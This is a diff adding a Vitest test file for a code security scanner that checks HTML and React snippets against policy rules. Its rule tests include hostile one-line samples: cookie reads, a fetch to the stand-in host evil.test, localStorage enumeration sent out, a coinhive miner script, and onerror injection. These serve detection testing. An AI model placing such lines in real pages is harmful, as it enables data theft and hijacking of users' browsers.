@@ -0,0 +1,52 @@
+import { describe, expect, it } from 'vitest';
+import { SecurityPolicy, SecurityScanner } from '../utils/SecurityScanner';
+
+const valid = import.meta.glob<string>('./corpus/valid/*.jsx', { query: '?raw', import: 'default', eager: true });
+const cleanHtml = import.meta.glob<string>('./corpus/html/red-button.html', { query: '?raw', import: 'default', eager: true });
+
+const policy: SecurityPolicy = {
+  actions: { critical: 'block', high: 'warn', medium: 'warn', low: 'ignore' },
+  allowedHosts: ['api.example.com']
+};
+
+const ruleIds = (code: string, kind: 'html' | 'react' = 'html'): string[] =>
+  SecurityScanner.scan({ kind, code }, policy).map(finding => finding.ruleId);
+
+const script = (code: string): string => `<script>${code}</script>`;
+
+describe('SecurityScanner', () => {
+  it('finds nothing in the known-good corpus', () => {
+    Object.entries(valid).forEach(([path, code]) => expect(ruleIds(code, 'react'), path).toEqual([]));
+    Object.entries(cleanHtml).forEach(([path, code]) => expect(ruleIds(code), path).toEqual([]));
+  });
+
+  it('flags each built-in rule', () => {
+    expect(ruleIds(script('const result = eval(input);'))).toEqual(['dynamic-code']);
+    expect(ruleIds(script('const id = document.cookie;'))).toEqual(['cookie-access']);
+    expect(ruleIds(script('window.parent.postMessage(data, "*");'))).toEqual(['frame-escape']);
+    expect(ruleIds(script('fetch("https://evil.test/collect")'))).toEqual(['unknown-host']);
+    expect(ruleIds('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')).toEqual(['crypto-miner']);
+    expect(ruleIds(script('Object.keys(localStorage).forEach(send);'))).toEqual(['storage-enumeration']);
+    expect(ruleIds(script('list.innerHTML = `<img src=x onerror="${payload}">`;'))).toEqual(['inline-handler-injection']);
+  });
+
+  it('reads only script text, except for rules that check the markup', () => {
+    expect(ruleIds('<a href="#">Back to top.</a><p>Never use eval() here.</p>')).toEqual([]);
+    expect(ruleIds(script('// eval() would be unsafe\nconst parentId = 1;'))).toEqual([]);
+    expect(ruleIds('<button onclick="window.top.location = url">Open</button>')).toEqual(['frame-escape']);
+    expect(ruleIds('export default function App() {\n  return <a href="#">Back to top.</a>;\n}', 'react')).toEqual([]);
+    expect(ruleIds('export default function App() {\n  eval(code);\n  return null;\n}', 'react')).toEqual(['dynamic-code']);
+  });
+
+  it('allows listed hosts and their subdomains', () => {
+    expect(ruleIds(script('fetch("https://api.example.com/items")'))).toEqual([]);
+    expect(ruleIds(script('fetch("https://eu.api.example.com/items")'))).toEqual([]);
+    expect(ruleIds(script('fetch("https://example.com.evil.test/items")'))).toEqual(['unknown-host']);
+  });
+
+  it('sorts findings into blocked and warnings by policy', () => {
+    const report = SecurityScanner.check({ kind: 'html', code: script('coinhive.start();\neval(code);') }, policy);
+    expect(report.blocked.map(finding => finding.line)).toEqual([1]);
+    expect(report.warnings.map(finding => finding.line)).toEqual([2]);
+  });
+});